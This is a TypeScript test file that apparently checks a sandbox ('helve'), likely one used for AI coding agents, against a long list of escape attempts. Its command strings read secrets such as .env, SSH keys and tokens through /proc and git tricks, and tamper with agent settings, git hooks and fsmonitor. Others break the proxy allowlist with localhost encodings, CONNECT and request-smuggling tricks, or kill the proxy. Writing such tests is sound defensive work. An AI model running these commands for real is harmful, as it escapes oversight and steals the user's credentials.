/** Python that calls the kernel without the functions of the C library, and prints OPENED if that is allowed. */
function call(number: string, ...args: readonly string[]): string {
  const given = args.map((arg) => `, ${arg}`).join('');
  return `python3 -c 'import ctypes; b=ctypes.create_string_buffer(256); r=ctypes.CDLL(None).syscall(${number}${given}); print("OPENED" if r>=0 else "")'`;
}

function socket(family: number, type: number, protocol = 0): string {
  return `python3 -c 'import socket; socket.socket(${family}, ${type}, ${protocol}); print("OPENED")'`;
}

/** Python with these words for the folders. */
function python(code: string): string {
  return `python3 -c 'import ctypes, fcntl, os, socket, stat, sys; O, P, U, H = (os.environ[n] for n in "OPUH"); c = ctypes.CDLL(None, use_errno=True)\n${code}'`;
}

/**
 * Attempts through the kernel's own interfaces. Those of the first kind need the filter of system calls. None changes anything where
 * it succeeds: it asks for a descriptor, or touches the bait.
 */
export const KERNEL_ATTEMPTS: Readonly<Record<string, readonly string[]>> = {
  'use parts of the kernel that it does not need': [
    call('425', '8', 'b'),
    call('321', '0', 'b', '72'),
    call('298', 'b', '0', '-1', '-1', '0'),
    call('323', '1'),
    call('250', '0', '-3', '0'),
    call('430', 'b"tmpfs"', '0'),
    call('428', '-100', 'b"/"', '1'),
    call('272', '0x10000000'),
    call('272', '0x20000'),
    call('272', '0x40000000'),
    call('56', '0x10000011', '0', '0', '0', '0'),
    call('300', '0', '0'),
    // The same call by the number of the x32 interface, and one that does not exist yet.
    call('0x40000000 + 272', '0x10000000'),
    call('480'),
    socket(38, 5),
    socket(40, 1),
    socket(17, 3),
    socket(16, 3, 12),
    socket(31, 5),
    python(
      'm, s = os.openpty(); os.setsid(); fcntl.ioctl(s, 0x540e, 0); fcntl.ioctl(s, 0x5412, b"x"); print("OPENED")',
    ),
    python('m, s = os.openpty(); fcntl.ioctl(s, 0x541c, b"\\2"); print("OPENED")'),
  ],
  'write outside through descriptors and links': [
    python('f = os.open(O, os.O_TMPFILE | os.O_RDWR); os.link("/proc/self/fd/%d" % f, O + "/PWN")'),
    python('f = os.open(O, os.O_PATH); os.close(os.open("PWN", os.O_CREAT | os.O_RDWR, dir_fd=f))'),
    python('f = os.open(O + "/kept", os.O_PATH); open("/proc/self/fd/%d" % f, "w").write("x")'),
    python('f = os.open(O + "/kept", os.O_RDONLY); open("/proc/self/fd/%d" % f, "w").write("x")'),
    python('f = os.open(O + "/kept", os.O_RDONLY); os.fchmod(f, 0o777)'),
    python(
      'f = os.memfd_create("x"); os.write(f, b"#!/bin/sh\\ntouch " + O.encode() + b"/PWN\\n"); os.execve("/proc/self/fd/%d" % f, ["x"], os.environ)',
    ),
    python('f = os.open("/", os.O_RDONLY); os.chroot("nested"); os.fchdir(f); open(O[1:] + "/PWN", "w")'),
    python('c.renameat2(-100, (O + "/kept").encode(), -100, b".env.sample", 2)'),
    'cp -al "$O" copy; echo x > copy/kept',
    'ln -s /proc/self/root"$O"/PWN x; echo x > x',
    '(for i in $(seq 100); do ln -sfn "$O" l; ln -sfn . l; done) & for i in $(seq 100); do touch l/PWN 2>/dev/null; done; wait',
    '/lib64/ld-linux-x86-64.so.2 /usr/bin/touch "$O/PWN"',
    'for f in /proc/1/fd/* /proc/*/cwd /proc/*/root; do ( cd "$f" && touch "../outside/PWN" "./$O/PWN" ) 2>/dev/null; done',
    python(
      'for n in os.listdir("/proc/self/fd"):\n  try: t = os.readlink("/proc/self/fd/" + n)\n  except OSError: continue\n  if int(n) > 2 and not t.startswith("/proc/"): print("OPENED", t)',
    ),
    'script -qc "touch $O/PWN" /dev/null; setsid touch "$O/PWN"; (exec -a bwrap touch "$O/PWN")',
  ],
  'write guarded files through descriptors and links': [
    python('f = os.open("scripts/hook.sh", os.O_RDONLY); open("/proc/self/fd/%d" % f, "a").write("x")'),
    python(
      'f = os.open("scripts/hook.sh", os.O_PATH); os.link("/proc/self/fd/%d" % f, "h"); open("h", "a").write("x")',
    ),
    python('open("x", "w").write("{}"); c.renameat2(-100, b"x", -100, b".mcp.json", 2)'),
    python('os.mkdir("x"); open("x/settings.json", "w").write("{}"); c.renameat2(-100, b"x", -100, b".claude", 2)'),
    python('os.mkdir("x"); open("x/pre-commit", "w"); c.renameat2(-100, b"x", -100, b".git/hooks", 2)'),
    python('os.mkdir("x"); open("x/tasks.json", "w"); c.renameat2(-100, b"x", -100, b".vscode", 2)'),
    python('f = os.open(".git", os.O_RDONLY); os.fchdir(f); open("config", "a").write("[core]\\nfsmonitor=x")'),
    'chmod u+w .claude .helve .idea .mcp.json; echo x > .claude/settings.json; echo x > .helve/settings.json; mkdir -p .idea/x',
    'for i in $(seq 200); do rmdir .claude; mkdir .claude; echo x > .mcp.json; mv .mcp.json y; done 2>/dev/null',
    'ln scripts/hook.sh h; echo "touch $O/PWN" >> h',
    'rm -rf .git; git init -q; git config core.fsmonitor "touch $O/PWN"',
    'printf "[core]\\n\\tfsmonitor = touch $O/PWN\\n" > .git/config.worktree',
    'git worktree add w; git -C w config core.fsmonitor "touch $O/PWN"',
    'umount .claude .mcp.json .git/config; umount -l .git; echo x > .mcp.json',
    'exec 5<.vscode; cd /proc/self/fd/5 && echo "{}" > tasks.json; mkdir -p ../.vscode/tasks.json/x',
  ],
  'read hidden files through descriptors and links': [
    python('f = os.open(".env", os.O_PATH); print(open("/proc/self/fd/%d" % f).read())'),
    python('f = os.open(P, os.O_PATH); print(open(os.open(".env", os.O_RDONLY, dir_fd=f)).read())'),
    python('os.chmod(".env", 0o644); os.chown(".env", 0, 0); print(open(".env").read())'),
    // A handle names a file without its path.
    python(
      'h = ctypes.create_string_buffer(136); h[0] = b"\\x80"; m = ctypes.c_int(); c.name_to_handle_at(-100, P.encode(), h, ctypes.byref(m), 0); f = c.open_by_handle_at(os.open("/", 0), h, 0); print(open(os.open(".env", 0, dir_fd=f)).read())',
    ),
    python(
      'p = c.syscall(434, 1, 0)\nfor n in range(40):\n  f = c.syscall(438, p, n, 0)\n  if f >= 0 and stat.S_ISREG(os.fstat(f).st_mode): print(n, os.read(f, 1000)); print("OPENED")',
    ),
    'cat /proc/thread-self/root"$P"/.env /proc/1/task/1/root"$H"/token /proc/self/task/*/cwd/.env',
    'exec 9</proc/1/root; cat /proc/self/fd/9"$P"/.env /proc/self/fd/9"$H"/token',
    'cat /tmp/helve-sandbox-*/* /proc/1/root/tmp/helve-*/* /var/tmp/helve-*; ls -R /tmp | grep BAIT',
    'mkdir m; mount --bind . m; cat m/.env; mount --rbind / m; cat "m$P/.env"; mount -t tmpfs x nested',
    'fusermount -u .env; fusermount3 -u .env; cat .env',
    'git stash -a; git stash show -p --include-untracked; git show stash^3:.env',
    'git -c core.worktree="$U/.ssh" add -f id_rsa; git -c core.worktree="$U/.ssh" show :id_rsa',
    'cut -d" " -f5 /proc/self/mountinfo | grep -v ^/dev | while read -r m; do timeout 1 cat "$m" "$m/id_rsa" "$m/token" 2>/dev/null; done',
    'for f in /proc/self/fd/*; do n=${f##*/}; [ "$n" -gt 2 ] && timeout 1 cat <&"$n"; done 2>/dev/null',
    'LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 LD_DEBUG=files cat .env; /lib64/ld-linux-x86-64.so.2 /bin/cat .env "$H/token"',
  ],
  'reach sockets of the outside in other ways': [
    python('s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"x", "\\0" + os.environ["ABSTRACT"])'),
    python('f = os.open(os.environ["SOCK"], os.O_PATH); socket.socket(socket.AF_UNIX).connect("/proc/self/fd/%d" % f)'),
    python('os.chdir("/proc/1/root" + O); socket.socket(socket.AF_UNIX).connect("socket")'),
    python(
      's = socket.socket(); s.setsockopt(1, 25, b"eth0"); s.settimeout(1); s.connect(("127.0.0.1", int(os.environ["PORT"])))',
    ),
    python(
      's = socket.socket(); s.bind(("0.0.0.0", 0)); s.settimeout(1); s.connect(("0.0.0.0", int(os.environ["PORT"])))',
    ),
    'ln "$SOCK" s; curl -s -m 2 --unix-socket s http://x/; cp -al "$O" o; curl -s -m 2 --unix-socket o/socket http://x/',
    'ip route add default dev lo; ip link set lo down; ip link set lo up; curl -s -m 1 "http://$LAN:$PORT/"',
    'nsenter --net=/proc/1/ns/net curl -s -m 1 "http://127.0.0.1:$PORT/"; ip netns exec x curl -s "http://127.0.0.1:$PORT/"',
    'curl -s -m 2 --unix-socket /run/helve-proxy.sock "http://127.0.0.1:$PORT/"; ls /run',
  ],
};

/** Attempts with a proxy that allows one host, which is not there. `$HTTP_PROXY` is its address inside. */
export const PROXY_ATTEMPTS: Readonly<Record<string, readonly string[]>> = {
  'reach the outside through the proxy': [
    ...[
      '127.0.0.1',
      'localhost',
      'LOCALHOST.',
      '[::1]',
      '[::ffff:127.0.0.1]',
      '0.0.0.0',
      '127.1',
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '127.0.0.1.allowed.test',
      'allowed.test.localhost',
    ].map(
      (host) =>
        `curl -s -m 3 --noproxy "" "http://${host}:$PORT/"; curl -s -m 3 -p --noproxy "" "http://${host}:$PORT/"`,
    ),
    'for ip in $LAN; do curl -s -m 3 "http://$ip:$PORT/"; done',
    'curl -s -m 3 --resolve "allowed.test:$PORT:127.0.0.1" "http://allowed.test:$PORT/"',
    'curl -s -m 3 --connect-to "::127.0.0.1:$PORT" http://allowed.test/; curl -s -m 3 -p --connect-to "::127.0.0.1:$PORT" http://allowed.test/',
    'curl -s -m 3 -H "Host: 127.0.0.1:$PORT" http://allowed.test/; curl -s -m 3 --noproxy "" -H "Host: allowed.test" "http://127.0.0.1:$PORT/"',
    'curl -s -m 3 --noproxy "" "http://allowed.test@127.0.0.1:$PORT/"; curl -s -m 3 --noproxy "" "http://127.0.0.1:$PORT#@allowed.test/"',
    'curl -s -m 3 -L --noproxy "" --proxy "$HTTP_PROXY" --preproxy "socks5h://127.0.0.1:${HTTP_PROXY##*:}" "http://127.0.0.1:$PORT/"',
    'curl -s -m 3 --noproxy "" -x "socks5h://127.0.0.1:${HTTP_PROXY##*:}" "http://127.0.0.1:$PORT/"',
    'curl -s -m 3 --noproxy "*" "http://127.0.0.1:$PORT/"; curl -s -m 3 --noproxy "*" http://example.com/ && touch "$O/PWN"',
    ...[
      'CONNECT 127.0.0.1:$PORT HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n',
      'CONNECT allowed.test:$PORT HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n',
      'CONNECT allowed.test:80@127.0.0.1:$PORT HTTP/1.1\\r\\n\\r\\n',
      'CONNECT 127.0.0.1:$PORT\\r\\n allowed.test:80 HTTP/1.1\\r\\n\\r\\n',
      'CONNECT 127.0.0.1:$PORT HTTP/1.0\\r\\n\\r\\n',
      'GET http://allowed.test/ HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n',
      'GET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n',
      'GET http://allowed.test/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\nGET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n',
      'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n',
      'GET http://allowed.test:80\\\\@127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n',
    ].map((text) => `exec 3<>"/dev/tcp/127.0.0.1/\${HTTP_PROXY##*:}"; printf "${text}" >&3; timeout 2 cat <&3`),
    'curl -s -m 3 --unix-socket /run/helve-proxy.sock "http://127.0.0.1:$PORT/"; curl -s -m 3 --unix-socket /run/helve-proxy.sock -H "Host: 127.0.0.1:$PORT" http://allowed.test/',
    'rm /run/helve-proxy.sock; ln -s "$SOCK" /run/helve-proxy.sock; curl -s -m 2 http://allowed.test/',
    'kill -9 $(pgrep -f helve-proxy); curl -s -m 2 "http://127.0.0.1:$PORT/"; curl -s -m 2 --noproxy "" "http://localhost:$PORT/"',
  ],
};
